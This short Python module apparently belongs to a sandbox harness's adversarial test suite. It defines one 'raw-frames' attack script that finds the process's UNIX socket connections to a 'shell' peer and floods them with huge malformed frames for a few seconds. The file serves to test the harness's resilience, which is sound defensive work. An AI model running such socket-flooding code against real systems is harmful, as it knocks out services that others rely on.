"""The transport below the messages."""

from .adaptive import adaptive
from .attack import Attack

LIST: list[Attack] = [
    adaptive("raw-frames", "writes the transport's own frames, an endless message among them", """
import os, socket, struct, time
ours = []
for name in os.listdir("/proc/self/fd"):
    try:
        s = socket.socket(fileno=os.dup(int(name)))
        if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and str(s.getpeername()).endswith("shell"):
            ours.append(s)
    except OSError:
        pass
frame = b"\\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)
end = time.time() + 3
for s in ours:
    s.settimeout(0.5)
    try:
        for _ in range(450):
            s.sendall(frame)
            if time.time() > end:
                break
    except OSError:
        pass
""", broken=True),
]
